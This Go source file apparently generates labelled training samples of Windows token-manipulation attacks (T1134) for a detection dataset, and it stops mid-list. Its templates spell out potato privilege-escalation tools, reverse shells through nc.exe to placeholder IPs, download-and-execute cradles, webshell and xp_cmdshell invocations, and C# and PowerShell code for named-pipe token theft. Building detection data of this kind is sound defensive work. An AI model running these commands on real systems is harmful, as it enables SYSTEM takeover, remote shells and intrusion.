package datagen

import "strings"

// More access-token-manipulation procedure families (label T1134, see
// POLICY.md).
//
// Labelling notes for this file, kept consistent with t1134.go and POLICY.md:
//   - Running something as SYSTEM through the PsExec service (psexec -s, -i -s)
//     is ordinary administration and stays benign; no family here uses it.
//     Cobalt Strike "elevate svc-exe" and the Meterpreter-style service that
//     only writes to an attacker's named pipe ("cmd /c echo x >
//     \\.\pipe\name") are T1134: the service exists to hand a SYSTEM client
//     to a pipe server that impersonates it (getsystem technique 1).
//   - A scheduled task running as SYSTEM is a launcher (rule 5); it is T1134
//     here only when its action is the named-pipe client of that same trick.
//   - runas /savecred is benign (an admin shortcut; see benign.go); only
//     /netonly is make-token. Start-Process -Credential and Metasploit's
//     run_as/run_as_psh (plain runas with credentials) are not used here.
//   - Potato payloads come from the shared {{payload}} slot, which never holds
//     a credential dump or a defense kill, so the goal stays token abuse.
//   - KillDefender strips the Defender token, so it is T1134 under POLICY.md
//     (token/av-token-sandboxing in t1134.go carries it).
//   - Golden tickets with extra SIDs (kerberos::golden /sids, ticketer.py
//     -extra-sid) are Kerberos ticket forgery and are left out; SID-History
//     written to the directory (DCShadow, LDAP, DsAddSidHistory) is T1134.

// addTokenSlotsMore adds the slots this file's families use. All names start
// with "tk" so they cannot collide with slots other files add.
func addTokenSlotsMore(m map[string]slotFunc) {
	// .NET potatoes with their own arguments (usable with execute-assembly).
	m["tkpotasm"] = oneOf(
		`SweetPotato.exe -p {{shell}} -a "/c {{payload}}"`,
		`SweetPotato.exe -e {{EfsRpc|PrintSpoofer|DCOM|WinRM}} -p {{shell}}`,
		`GodPotato{{|-NET4|-NET35|-NET2}}.exe -cmd "{{payload}}"`,
		`BadPotato.exe "{{payload}}"`,
		`SharpEfsPotato.exe -p {{shell}} -a "{{payload}}"`,
		`SigmaPotato.exe "{{payload}}"`,
		`EfsPotato.exe "{{payload}}"`,
		`DeadPotato.exe -cmd "{{payload}}"`,
		`SharpBadPotato.exe -c "{{payload}}"`,
		`PrintNotifyPotato.exe "{{payload}}"`)
	// Any potato with its own arguments (native and .NET).
	m["tkpot"] = oneOf(
		"{{tkpotasm}}",
		`PrintSpoofer{{|64|32}}.exe -i -c {{shell}}`,
		`PrintSpoofer64.exe -c "{{payload}}"`,
		`JuicyPotato.exe -l {{port}} -p {{shell}} -t *{{| -c {{clsid}}}}`,
		`JuicyPotatoNG.exe -t * -p {{shell}} -a "/c {{payload}}"`,
		`RoguePotato.exe -r {{ip}} -e "{{shell}}" -l 9999`,
		`CoercedPotato.exe -c {{shell}}`,
		`jp.exe -l {{port}} -p {{shell}} -a "/c {{payload}}" -t * -c {{clsid}}`,
		`RasmanPotato.exe -c "{{payload}}"`)
	m["tkpipe"] = oneOf("{{word}}", "{{word}}\\pipe\\spoolss", "{{guid}}", "msagent_{{hex8}}", "status_{{n}}{{n}}", "{{hex8}}",
		"postex_{{hex8}}", "{{word}}pipe", "mojo.{{num}}.{{num}}", "dce_{{n}}{{n}}", "interprocess_{{num}}")
	m["tkpriv"] = oneOf("SeDebugPrivilege", "SeImpersonatePrivilege", "SeAssignPrimaryTokenPrivilege", "SeTcbPrivilege",
		"SeCreateTokenPrivilege", "SeDebugPrivilege", "SeImpersonatePrivilege")
	m["tksysproc"] = oneOf("winlogon", "lsass", "services", "wininit", "spoolsv", "smss", "csrss", "svchost", "TrustedInstaller", "dllhost")
	m["tkcsl"] = oneOf("http", "https", "smb", "tcp", "dns", "{{word}}", "{{word}}-https", "smb-pivot", "local-tcp", "{{word}}_http", "HTTPS_{{n}}")
	m["tkweb"] = oneOf(`C:\inetpub\wwwroot`, `C:\inetpub\wwwroot\aspnet_client`, `C:\inetpub\wwwroot\uploads`, `C:\xampp\htdocs`,
		`C:\inetpub\wwwroot\{{word}}`, `C:\Program Files\Apache Software Foundation\Tomcat 9.0\webapps\ROOT`, `D:\wwwroot\{{word}}`,
		`C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files`, `C:\inetpub\wwwroot\App_Data`)
	m["tkedrp"] = func(s *sample) string {
		return strings.TrimSuffix(edrWinProcs[s.intn(len(edrWinProcs))], ".exe")
	}
	m["tkfn"] = oneOf("Invoke-StealToken", "Steal-Token", "Get-SystemToken", "Invoke-Impersonate", "Copy-ProcessToken", "Start-AsSystem",
		"Invoke-{{word}}", "Invoke-TokenSteal", "Get-ElevatedToken", "Invoke-DupToken", "New-TokenProcess", "Use-Token")
	m["tkprompt"] = oneOf("", "", "", "beacon> ", "[{{date}} {{time}}] beacon> ", "beacon > ")
	m["tksqlp"] = oneOf("SQL> ", "SQL ({{domain}}\\{{user}}  dbo@master)> ", "SQL (dbo@master)> ", "", "1> ")
}

func tokenFamiliesMore() []Family {
	c := T1134
	return []Family{
		// ---- Potatoes and SeImpersonate abuse ----
		fam("token/rottenpotato-meterpreter", c, "windows", Raw,
			`execute -Hc -f {{rottenpotato.exe|rot.exe|{{rndexe}}}} {{amp}} impersonate_token "NT AUTHORITY\\SYSTEM"`,
			`execute -H -c -f C:\\Windows\\Temp\\{{word}}.exe{{amp}} load incognito{{amp}} list_tokens -u{{amp}} impersonate_token "{{sysacct}}"`,
			`meterpreter > execute -Hc -f {{wtemp}}\rottenpotato.exe`,
			`upload {{/root|/opt/tools|/home/kali}}/rottenpotato.exe {{word}}.exe {{amp}} execute -Hc -f {{word}}.exe {{amp}} impersonate_token "NT AUTHORITY\\SYSTEM"`,
			`execute -cH -f .\rottenpotato.exe -a "{{pid}}"`,
			`execute -Hc -f {{wtemp}}\{{word}}.exe; sleep {{n}}; impersonate_token "NT AUTHORITY\\SYSTEM"; getuid`),
		fam("token/rottenpotato-ng-msf", c, "windows", Cmd,
			`MSFRottenPotato{{|.exe}} {{t|*|u}} {{wtemp}}\{{word}}.bat`,
			`MSFRottenPotato.exe * "{{shell}}"`,
			`{{wtemp}}\MSFRottenPotato.exe t "{{payload}}"`,
			`RottenPotatoNG{{|.exe}} "{{shell}}"`,
			`RottenPotatoNG.exe -c {{clsid}} "{{payload}}"`,
			`lonelypotato.exe {{*|t|u}} {{wtemp}}\{{word}}.bat`,
			`rottenpotato.exe {{shell}} {{port}}`),
		fam("token/juicypotato-clsid-probe", c, "windows", Cmd,
			`for /f %i in ({{CLSID.list|clsids.txt|{{wtemp}}\clsid.txt}}) do {{potato}} -z -l {{port}} -c %i >> {{wtemp}}\{{word}}.log`,
			`for /f "tokens=*" %c in (CLSID.list) do @{{potato}} -z -l {{port}} -c %c`,
			`{{potato}} -z -l {{port}} -c {{clsid}}`,
			`{{potato}} -l {{port}} -p {{shell}} -t * -c {{clsid}} -m {{ip}}`,
			`{{potato}} -l {{port}} -p {{shell}} -t u -c {{clsid}} -k {{ip}} -n {{port2}}`,
			`test_clsid.bat {{amp}} type result.log {{pipe}} findstr /i "NT AUTHORITY"`,
			`{{potato}} -z -c {{clsid}} -l {{port}} {{pipe}} find "{{Result|SYSTEM|Auth result 0}}"`),
		fam("token/juicypotato-revshell-args", c, "windows", Cmd,
			`{{potato}} -l {{port}} -p c:\windows\system32\cmd.exe -a "/c {{wtemp}}\nc.exe -e cmd.exe {{ip}} {{c2port}}" -t *{{| -c {{clsid}}}}`,
			`{{potato}} -l {{port}} -p C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -a "-nop -ep bypass -c IEX(New-Object Net.WebClient).DownloadString('http://{{ip}}:{{port2}}/{{word}}.ps1')" -t *`,
			`{{potato}} -l {{port}} -p {{wtemp}}\{{word}}.bat -t *{{| -c {{clsid}}}}`,
			`{{potato}} -l {{port}} -p {{wtemp}}\{{rndexe}} -t * -c {{clsid}}`,
			`{{potato}} -p "C:\Windows\System32\cmd.exe" -a "/c net localgroup administrators {{user}} /add" -t * -l {{port}}`,
			`{{potato}} -t * -p {{wtemp}}\shell.exe -l {{port}} -c {{clsid}}`),
		fam("token/remotepotato0", c, "windows", Cmd,
			`RemotePotato0{{|.exe}} -m {{0|1|2|3}} -r {{ip}} -x {{ip2}} -p {{port}} -s {{n}}`,
			`RemotePotato0.exe -m 2 -s {{n}}{{| -c {{clsid}}}}`,
			`RemotePotato0.exe -m 0 -r {{ip}} -x {{ip}} -p 9999 -s {{n}}`,
			`{{wtemp}}\RemotePotato0.exe -m 1 -l {{port}} -r {{ip}} -x {{ip}}`,
			`RemotePotato0.exe -m 3 -s {{n}} -c {{clsid}}`,
			`{{rndexe}} -m 2 -s {{n}} -c {{clsid}} -l {{port}}`),
		fam("token/roguewinrm", c, "windows", Cmd,
			`RogueWinRM{{|.exe}} -p {{shell}}{{| -a "/c {{payload}}"}}`,
			`RogueWinRM.exe -p C:\Windows\System32\cmd.exe -a "/c {{payload}}" -l {{port}}`,
			`RogueWinRM.exe -p {{wtemp}}\nc64.exe -a "-e cmd.exe {{ip}} {{c2port}}"`,
			`{{wtemp}}\RogueWinRM.exe -p "{{shell}}" -d`,
			`RogueWinRM.exe -l 5985 -p {{shell}} -a "{{payload}}"`),
		fam("token/genericpotato", c, "windows", Cmd,
			`GenericPotato{{|.exe}} -p {{shell}} -a "/c {{payload}}" -e {{HTTP|NamedPipe}}{{| -l {{port}}}}`,
			`GenericPotato.exe -e NamedPipe -n {{tkpipe}} -p {{shell}}`,
			`GenericPotato.exe -e HTTP -l {{port}} -p {{wtemp}}\{{rndexe}}`,
			`{{wtemp}}\GenericPotato.exe -p "C:\Windows\System32\cmd.exe" -a "/c {{payload}}" -e HTTP -l {{port}}`,
			`GenericPotato.exe -p {{shell}} -e NamedPipe -n {{tkpipe}} -a "{{payload}}"`),
		fam("token/sigmapotato-reflective", c, "windows", PS,
			`[System.Reflection.Assembly]::Load((New-Object System.Net.WebClient).DownloadData("{{url}}/SigmaPotato.exe")) | Out-Null; [SigmaPotato]::Main("{{payload}}")`,
			`$a = [Reflection.Assembly]::Load([IO.File]::ReadAllBytes("{{pstemp}}\SigmaPotato.exe")); [SigmaPotato]::Main(@("--revshell","{{ip}}","{{c2port}}"))`,
			`[SigmaPotato]::Main(@("{{payload}}"))`,
			`iex (iwr {{url}}/Invoke-SigmaPotato.ps1 -UseBasicParsing); Invoke-SigmaPotato -Command "{{payload}}"`,
			`$b = (iwr "http://{{ip}}:{{port}}/SigmaPotato.exe" -UseBasicParsing).Content; [Reflection.Assembly]::Load($b); [SigmaPotato]::Main("--revshell {{ip}} {{c2port}}")`),
		fam("token/multipotato", c, "windows", Cmd,
			`MultiPotato{{|.exe}} -t CreateProcessWithTokenW -p "{{wtemp}}\{{rndexe}}"`,
			`MultiPotato.exe -t CreateUser{{| -u {{user}} -pw {{pass}}}}`,
			`MultiPotato.exe -t CreateProcessAsUserW -p "{{shell}}"`,
			`PetitPotamModified.exe localhost/pipe/multipotato {{localhost|127.0.0.1|{{host}}}}`,
			`start /b MultiPotato.exe -t CreateProcessWithTokenW -p "{{payload}}" {{amp}} PetitPotam.exe localhost/pipe/multipotato localhost`,
			`{{wtemp}}\MultiPotato.exe -t CreateProcessWithTokenW -p "{{shell}}"`),
		fam("token/deadpotato", c, "windows", Cmd,
			`DeadPotato{{|.exe}} -cmd "{{payload}}"`,
			`DeadPotato.exe -rev {{ip}}:{{c2port}}`,
			`DeadPotato.exe -newadmin {{user}}:{{pass}}`,
			`DeadPotato.exe -shell`,
			`{{wtemp}}\DeadPotato-NET4.exe -cmd "{{shell}}"`,
			`DeadPotato.exe -exe {{wtemp}}\{{rndexe}}`),
		fam("token/badpotato", c, "windows", Cmd,
			`BadPotato{{|.exe}} {{payload}}`,
			`{{wtemp}}\BadPotato.exe "{{shell}}"`,
			`BadPotato.exe "cmd /c {{payload}}"`,
			`C:\Users\Public\BadPotato.exe "{{wtemp}}\nc.exe {{ip}} {{c2port}} -e cmd.exe"`,
			`SharpBadPotato.exe -c "{{shell}}"`,
			`execute-assembly {{wtemp}}\BadPotato.exe "{{payload}}"`),
		fam("token/rasmanpotato", c, "windows", Cmd,
			`RasmanPotato{{|.exe}} -c "{{payload}}"`,
			`RasmanPotato.exe -c {{shell}} -i`,
			`{{wtemp}}\RasmanPotato.exe -m {{1|2}} -c "{{payload}}"`,
			`RasmanPotato.exe -c "{{wtemp}}\{{rndexe}} {{ip}} {{c2port}}"`,
			`RasmanPotato.exe --cmd "{{shell}}" --interactive`),
		fam("token/dcom-service-potatoes", c, "windows", Cmd,
			`PrintNotifyPotato{{|-NET2|-NET35|-NET46}}.exe "{{payload}}"`,
			`PrintNotifyPotato.exe {{shell}} interactive`,
			`McpManagementPotato.exe "{{payload}}"`,
			`DCOMPotato.exe {{PrintNotify|McpManagementService}} "{{payload}}"`,
			`{{wtemp}}\PrintNotifyPotato.exe "{{wtemp}}\{{rndexe}}"`,
			`McpManagementPotato{{|.exe}} {{shell}}`),
		fam("token/localpotato-storsvc", c, "windows", Cmd,
			`LocalPotato{{|.exe}} -i {{wtemp}}\SprintCSP.dll -o \Windows\System32\SprintCSP.dll`,
			`LocalPotato.exe -i SprintCSP.dll -o \Windows\System32\SprintCSP.dll {{amp}} RpcClient.exe`,
			`LocalPotato.exe -i {{wtemp}}\{{word}}.dll -o Windows\System32\wbem\{{word}}.dll -c {{clsid}}`,
			`LocalPotato.exe -r {{ip}} -u /webdav/{{word}}.txt -p {{port}}`,
			`LocalPotato.exe -i {{file}} -o Windows\System32\{{word}}.bat -c {{clsid}}`,
			`{{wtemp}}\LocalPotato.exe -i {{wtemp}}\{{word}}.dll -o \Windows\System32\SprintCSP.dll{{| -c {{clsid}}}}`),
		fam("token/coercedpotato-rpc-options", c, "windows", Cmd,
			`CoercedPotato{{|.exe}} -c "{{payload}}" --interface {{ms-rprn|ms-efsr|ms-par|all}}`,
			`CoercedPotato.exe --command {{shell}} --exploitId {{n}}`,
			`CoercedPotato.exe -c {{wtemp}}\{{rndexe}} -n {{tkpipe}}`,
			`CoercedPotato.exe --command "{{payload}}" --interface ms-efsr --exploitId {{n}}{{| --force}}`,
			`{{wtemp}}\CoercedPotato.exe -c "{{shell}}" --noninteractive`),
		fam("token/sharpefspotato", c, "windows", Cmd,
			`SharpEfsPotato{{|.exe}} -p C:\Windows\system32\WindowsPowerShell\v1.0\powershell.exe -a "{{payload}} | Set-Content {{wtemp}}\{{word}}.log"`,
			`SharpEfsPotato.exe -p {{shell}} -a "/c {{payload}}"`,
			`{{wtemp}}\SharpEfsPotato.exe -p {{wtemp}}\{{rndexe}}`,
			`SharpEfsPotato.exe -p C:\Windows\System32\cmd.exe -a "/c {{wtemp}}\nc.exe {{ip}} {{c2port}} -e cmd"`,
			`SharpEfsPotato.exe -p {{shell}} -a "{{payload}}" -e {{tkpipe}}`),
		fam("token/potato-from-webshell-paths", c, "windows", Cmd,
			`{{tkweb}}\{{tkpot}}`,
			`cd {{tkweb}} {{amp}} {{tkpot}}`,
			`{{tkweb}}\{{rndexe}} -cmd "{{payload}}"`,
			`"{{tkweb}}\{{tkpot}}" 2>&1`,
			`{{tkweb}}\uploads\{{tkpot}} > {{tkweb}}\{{word}}.txt 2>&1`,
			`{{tkweb}}\{{rndexe}} -i -c "{{payload}}"`),
		fam("token/potato-xp-cmdshell", c, "windows", Raw,
			`EXEC xp_cmdshell '{{wtemp}}\{{tkpot}}';`,
			`EXEC master..xp_cmdshell '{{tkpot}}'`,
			`{{tksqlp}}xp_cmdshell {{wtemp}}\{{tkpot}}`,
			`{{tksqlp}}EXEC xp_cmdshell 'C:\Users\Public\{{tkpot}}'`,
			`exec master.dbo.xp_cmdshell '{{wtemp}}\{{rndexe}} -cmd "{{payload}}"'`,
			`EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE; EXEC xp_cmdshell '{{wtemp}}\{{tkpot}}'`),
		fam("token/evil-winrm-potato", c, "windows", Raw,
			`*Evil-WinRM* PS C:\Users\{{user}}\Documents> .\{{tkpot}}`,
			`*Evil-WinRM* PS {{pstemp}}> & .\{{tkpot}}`,
			`*Evil-WinRM* PS C:\programdata> upload {{tkpotasm}}`,
			`*Evil-WinRM* PS C:\Windows\Temp> .\{{rndexe}} -i -c "{{payload}}"`,
			`*Evil-WinRM* PS C:\Users\{{user}}\Desktop> .\{{tkpotasm}}`),
		fam("token/potato-reflective-load", c, "windows", PS,
			`$d=(New-Object Net.WebClient).DownloadData('{{url}}/GodPotato.exe');[Reflection.Assembly]::Load($d)|Out-Null;[GodPotato.Program]::Main(@('-cmd','{{payload}}'))`,
			`[System.Reflection.Assembly]::Load([Convert]::FromBase64String($b64)) | Out-Null; [SweetPotato.Program]::Main(@('-p','{{shell}}','-a','/c {{payload}}'))`,
			`$asm = [Reflection.Assembly]::LoadFile("{{pstemp}}\BadPotato.exe"); $asm.EntryPoint.Invoke($null, @(,[string[]]@("{{payload}}")))`,
			`[Reflection.Assembly]::Load((iwr http://{{ip}}:{{port}}/SharpEfsPotato.exe -UseBasicParsing).Content); [SharpEfsPotato.Program]::Main(@('-p','{{shell}}','-a','{{payload}}'))`,
			`$bytes = [IO.File]::ReadAllBytes('{{pstemp}}\{{word}}.bin'); [Reflection.Assembly]::Load($bytes); [PrintSpoofer.Program]::Main(@('-i','-c','{{shell}}'))`,
			`[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData("{{url}}/EfsPotato.exe")); [EfsPotato.Program]::Main(@("{{payload}}"))`),
		fam("token/c2-potato-execute-assembly", c, "windows", Raw,
			`execute-assembly {{/opt/tools|/home/kali/tools|/root/Tools|C:\Tools}}/{{tkpotasm}}`,
			`{{tkprompt}}execute-assembly {{tkpotasm}}`,
			`sliver ({{word}}) > execute-assembly {{-i |-t 60 |}}/opt/{{tkpotasm}}`,
			`dotnet inline-execute /opt/tools/{{tkpotasm}}`,
			`inlineExecute-Assembly --dotnetassembly /opt/{{tkpotasm}}`,
			`run post/windows/manage/execute_dotnet_assembly DOTNET_EXE=/opt/{{GodPotato.exe|SweetPotato.exe|BadPotato.exe}} ARGUMENTS="-cmd {{payload}}" SESSION={{n}}`,
			`execute_assembly /opt/tools/{{tkpotasm}}`),
		fam("token/tater-options", c, "windows", PS,
			`Invoke-Tater -Command "{{payload}}" -Exhaust {{Y|N}}{{| -RunTime {{n}}}}`,
			`Invoke-Tater -Trigger 2 -Taskdelete N -Taskname {{word}} -Command "{{payload}}"`,
			`Invoke-Tater -SpooferIP {{ip}} -Hostname {{WPAD|wpad.{{domain}}}} -Command "{{payload}}"`,
			`Invoke-Tater -WPADPort {{port}} -HTTPPort {{port2}} -Command "{{payload}}"`,
			`Invoke-Tater -IP {{ip}} -NBNS Y -NBNSLimit N -Trigger 1 -Command "{{payload}}"`,
			`Invoke-Tater -Command "{{payload}}" -ExhaustUDP Y -RunTime {{num}} -StatusOutput Y`),
		fam("token/hot-potato-exe", c, "windows", Cmd,
			`Potato.exe -ip {{ip}} -cmd "{{payload}}" -enable_httpserver true -enable_defender true -enable_spoof true -enable_exhaust true`,
			`Potato.exe -ip {{ip}} -disable_exhaust true -cmd "{{payload}}" -spoof_host {{WPAD|wpad.{{domain}}}}`,
			`{{wtemp}}\Potato.exe -ip {{ip}} -cmd "{{shell}}" -enable_httpserver true -enable_spoof true -enable_exhaust false -enable_defender_scan true`,
			`Potato.exe -ip {{ip}} -cmd "{{payload}}" -disable_exhaust true -disable_defender true`,
			`HotPotato.exe -ip {{ip}} -cmd "{{payload}}" -enable_etw true`),
		fam("token/churrasco-token-kidnapping", c, "windows", Cmd,
			`churrasco{{|.exe}} -d "{{payload}}"`,
			`Churrasco.exe "{{shell}}"`,
			`{{wtemp}}\churrasco.exe -d "{{wtemp}}\nc.exe -e cmd.exe {{ip}} {{c2port}}"`,
			`pr.exe "{{payload}}"`,
			`{{wtemp}}\pr.exe "net user {{user}} {{pass}} /add"`,
			`ms09-012.exe "{{payload}}"`,
			`{{tkweb}}\churrasco.exe -d "{{payload}}"`),
		fam("token/potato-download-and-run-ps", c, "windows", PS,
			`iwr {{url}}/{{PrintSpoofer64|GodPotato-NET4|SweetPotato|EfsPotato}}.exe -OutFile {{pstemp}}\{{word}}.exe; & {{pstemp}}\{{word}}.exe {{-i -c {{shell}}|-cmd "{{payload}}"}}`,
			`(New-Object Net.WebClient).DownloadFile('http://{{ip}}:{{port}}/PrintSpoofer64.exe', "{{pstemp}}\ps.exe"); & "{{pstemp}}\ps.exe" -i -c {{shell}}`,
			`Invoke-WebRequest -Uri http://{{ip}}/GodPotato.exe -OutFile {{pstemp}}\gp.exe; {{pstemp}}\gp.exe -cmd "{{payload}}"`,
			`cd {{pstemp}}; wget http://{{ip}}:{{port}}/JuicyPotatoNG.exe -O jp.exe; .\jp.exe -t * -p {{shell}}`,
			`Start-BitsTransfer -Source {{url}}/SweetPotato.exe -Destination {{pstemp}}\sp.exe; & {{pstemp}}\sp.exe -p {{shell}} -a "/c {{payload}}"`),
		fam("token/potato-download-and-run-cmd", c, "windows", Cmd,
			`certutil -urlcache -split -f http://{{ip}}:{{port}}/{{PrintSpoofer64|GodPotato|JuicyPotato}}.exe {{wtemp}}\{{word}}.exe {{amp}} {{wtemp}}\{{word}}.exe {{-i -c {{shell}}|-cmd "{{payload}}"|-l {{port2}} -p {{shell}} -t *}}`,
			`curl -o {{wtemp}}\gp.exe http://{{ip}}/GodPotato-NET4.exe {{amp}} {{wtemp}}\gp.exe -cmd "{{payload}}"`,
			`bitsadmin /transfer {{word}} http://{{ip}}/PrintSpoofer.exe {{wtemp}}\p.exe {{amp}} {{wtemp}}\p.exe -c "{{payload}}"`,
			`copy \\{{ip}}\{{word}}\{{tkpot}} {{wtemp}}\ {{amp}} {{wtemp}}\{{tkpot}}`,
			`\\{{ip}}\share\{{tkpot}}`),
		fam("token/webshell-url-potato", c, "windows", Sh,
			`curl -s -G --data-urlencode 'cmd={{wtemp}}\{{tkpot}}' http://{{host}}/uploads/{{word}}.aspx`,
			`curl "http://{{host}}/{{word}}.aspx?cmd=c:\\windows\\temp\\PrintSpoofer64.exe%20-i%20-c%20{{whoami|cmd|powershell}}"`,
			`curl -k "https://{{host}}/{{word}}.php?c=C:%5CUsers%5CPublic%5CGodPotato.exe%20-cmd%20%22{{whoami|cmd%20/c%20whoami|net%20user}}%22"`,
			`curl -X POST http://{{host}}:{{port}}/cmd.jsp --data-urlencode "cmd={{wtemp}}\{{tkpotasm}}"`,
			`python3 webshell.py -u http://{{host}}/{{word}}.aspx -c '{{wtemp}}\{{tkpot}}'`),
		fam("token/printspoofer-technique-csharp", c, "windows", Script,
			`string pipe = @"\\.\pipe\{{tkpipe}}\pipe\spoolss";
IntPtr hPipe = CreateNamedPipe(pipe, PIPE_ACCESS_DUPLEX, PIPE_TYPE_BYTE | PIPE_WAIT, 10, 2048, 2048, 0, ref sa);
// trigger the spooler: RpcRemoteFindFirstPrinterChangeNotificationEx(\\{{host}} -> \\{{host}}/pipe/{{tkpipe}})
ConnectNamedPipe(hPipe, IntPtr.Zero);
ImpersonateNamedPipeClient(hPipe);
OpenThreadToken(GetCurrentThread(), TOKEN_ALL_ACCESS, false, out IntPtr hToken);
DuplicateTokenEx(hToken, TOKEN_ALL_ACCESS, IntPtr.Zero, 2, 1, out IntPtr hSys);
CreateProcessWithTokenW(hSys, 0, null, @"{{shell}}", 0, IntPtr.Zero, null, ref si, out pi);`,
			`$pipeName = "{{tkpipe}}"
$server = New-Object System.IO.Pipes.NamedPipeServerStream("$pipeName\pipe\spoolss", [IO.Pipes.PipeDirection]::InOut, 1, 0, 1)
Start-Job { SpoolSample.exe {{host}} {{host}}/pipe/{{tkpipe}} }
$server.WaitForConnection()
[Native]::ImpersonateNamedPipeClient($server.SafePipeHandle.DangerousGetHandle())
[Native]::OpenThreadToken([Native]::GetCurrentThread(), 0xF01FF, $false, [ref]$tok)
[Native]::CreateProcessWithTokenW($tok, 0, "{{shell}}", $null, 0, [IntPtr]::Zero, $null, [ref]$si, [ref]$pi)`,
			`// EfsRpc variant: coerce lsass to our pipe and impersonate it
EfsRpcOpenFileRaw(hBinding, out ctx, @"\\localhost/pipe/{{tkpipe}}\C$\{{word}}.txt", 0);
ImpersonateNamedPipeClient(hPipe);
DuplicateTokenEx(hThreadToken, 0xF01FF, IntPtr.Zero, SecurityImpersonation, TokenPrimary, out hPrimary);
CreateProcessAsUser(hPrimary, null, "{{payload}}", IntPtr.Zero, IntPtr.Zero, false, CREATE_NO_WINDOW, IntPtr.Zero, null, ref si, out pi);`,
			`[Native]::ImpersonateNamedPipeClient($hPipe)  # \\.\pipe\{{tkpipe}}\pipe\spoolss <- \\{{host}}/pipe/{{tkpipe}}
[Native]::CreateProcessWithTokenW($sysTok, 0, "{{shell}}", "/c {{payload}}", 0, [IntPtr]::Zero, $null, [ref]$si, [ref]$pi)`),
		fam("token/potato-dcom-ntlm-reflection-code", c, "windows", Script,
			`// RottenPotato-style: BITS CLSID -> local OXID resolver -> NTLM reflection
Guid clsid = new Guid("{{4991d34b-80a1-4291-83b6-3328366b9097|{{guid}}}}");
CoGetInstanceFromIStorage(null, ref clsid, null, CLSCTX.CLSCTX_LOCAL_SERVER, storage, 1, results);
AcceptSecurityContext(ref hCred, IntPtr.Zero, ref inBuf, ASC_REQ_CONNECTION, SECURITY_NATIVE_DREP, ref hCtx, out outBuf, out attr, out ts);
QuerySecurityContextToken(ref hCtx, out IntPtr hToken);
DuplicateTokenEx(hToken, TOKEN_ALL_ACCESS, IntPtr.Zero, 2, 1, out IntPtr hDup);
CreateProcessWithTokenW(hDup, 0, null, "{{shell}}", 0, IntPtr.Zero, null, ref si, out pi);`,
			`$listener = [System.Net.Sockets.TcpListener]{{port}}
# marshal the OBJREF to 127.0.0.1:{{port}} and relay NTLM to RPC 135
[Sspi]::AcceptSecurityContext([ref]$cred, [IntPtr]::Zero, [ref]$inBuf, 0, 0x10, [ref]$ctx, [ref]$outBuf, [ref]$attr, [ref]$ts)
[Sspi]::ImpersonateSecurityContext([ref]$ctx)
[Sspi]::QuerySecurityContextToken([ref]$ctx, [ref]$sysToken)
[Adv]::CreateProcessAsUser($sysToken, $null, "{{shell}}", [IntPtr]::Zero, [IntPtr]::Zero, $false, 0, [IntPtr]::Zero, $null, [ref]$si, [ref]$pi)`,
			`IStorageTrigger trigger = new IStorageTrigger(storage, "127.0.0.1", {{port}});
Ole32.CoGetInstanceFromIStorage(null, ref clsid_{{word}}, null, 0x4, trigger, 1, qis);
ImpersonateSecurityContext(ref phContext);
OpenThreadToken(GetCurrentThread(), TOKEN_ALL_ACCESS, false, out systemToken);
SetThreadToken(IntPtr.Zero, systemToken);
Process.Start("{{shell}}");`,
			`// JuicyPotato core: -l {{port}} -c {{clsid}}
CoGetInstanceFromIStorage(NULL, &clsid, NULL, CLSCTX_LOCAL_SERVER, pStorage, 1, mqi);
QuerySecurityContextToken(&ctx, &hSysTok);
CreateProcessWithTokenW(hSysTok, 0, L"{{shell}}", NULL, 0, NULL, NULL, &si, &pi);`),

		// ---- Named-pipe impersonation ----
		fam("token/namedpipe-impersonation-csharp", c, "windows", Script,
			`IntPtr hPipe = CreateNamedPipe(@"\\.\pipe\{{tkpipe}}", PIPE_ACCESS_DUPLEX, PIPE_TYPE_MESSAGE | PIPE_WAIT, 1, 1024, 1024, 0, IntPtr.Zero);
ConnectNamedPipe(hPipe, IntPtr.Zero);
if (ImpersonateNamedPipeClient(hPipe)) {
    OpenThreadToken(GetCurrentThread(), TOKEN_ALL_ACCESS, false, out IntPtr hToken);
    DuplicateTokenEx(hToken, TOKEN_ALL_ACCESS, IntPtr.Zero, SECURITY_IMPERSONATION, TOKEN_PRIMARY, out IntPtr hPrimary);
    CreateProcessWithTokenW(hPrimary, LOGON_WITH_PROFILE, null, @"{{shell}}", 0, IntPtr.Zero, null, ref si, out pi);
}`,
			`Add-Type -TypeDefinition @"
using System; using System.IO.Pipes; using System.Runtime.InteropServices;
public class {{word}} {
  [DllImport("advapi32.dll")] public static extern bool ImpersonateNamedPipeClient(IntPtr h);
  [DllImport("advapi32.dll")] public static extern bool OpenThreadToken(IntPtr t, uint a, bool s, out IntPtr tok);
  public static void Run() {
    var srv = new NamedPipeServerStream("{{tkpipe}}", PipeDirection.InOut);
    srv.WaitForConnection();
    ImpersonateNamedPipeClient(srv.SafePipeHandle.DangerousGetHandle());
  }
}
"@
[{{word}}]::Run()
Start-Process {{shell}}`,
			`var server = new NamedPipeServerStream("{{tkpipe}}", PipeDirection.InOut, 1, PipeTransmissionMode.Byte, PipeOptions.None);
server.WaitForConnection();
server.RunAsClient(() => {
    var id = WindowsIdentity.GetCurrent();
    Console.WriteLine("impersonating " + id.Name);
    Process.Start("{{shell}}", "/c {{payload}}");
});`,
			`[DllImport("advapi32.dll")] static extern bool ImpersonateNamedPipeClient(IntPtr h);
var pipe = new NamedPipeServerStream(@"{{tkpipe}}"); pipe.WaitForConnection();
ImpersonateNamedPipeClient(pipe.SafePipeHandle.DangerousGetHandle());
File.WriteAllText(@"{{wtemp}}\{{word}}.txt", WindowsIdentity.GetCurrent().Name);`),
		fam("token/service-pipe-trigger-cmd", c, "windows", Cmd,
			`sc create {{word}} binPath= "cmd.exe /c echo {{word2}} > \\.\pipe\{{tkpipe}}" {{amp}} sc start {{word}}`,
			`sc.exe create {{word}} binpath= "%COMSPEC% /c echo {{hex8}} > \\.\pipe\{{tkpipe}}" start= demand`,
			`cmd.exe /c echo {{hex8}} > \\.\pipe\{{tkpipe}}`,
			`%COMSPEC% /c echo {{word}} > \\.\pipe\{{tkpipe}}`,
			`C:\Windows\system32\cmd.exe /c echo {{hex8}} > \\.\pipe\{{hex8}}`,
			`sc create {{word}} binPath= "rundll32.exe {{wtemp}}\{{word}}.dll,a /p:{{tkpipe}}" {{amp}} sc start {{word}}`,
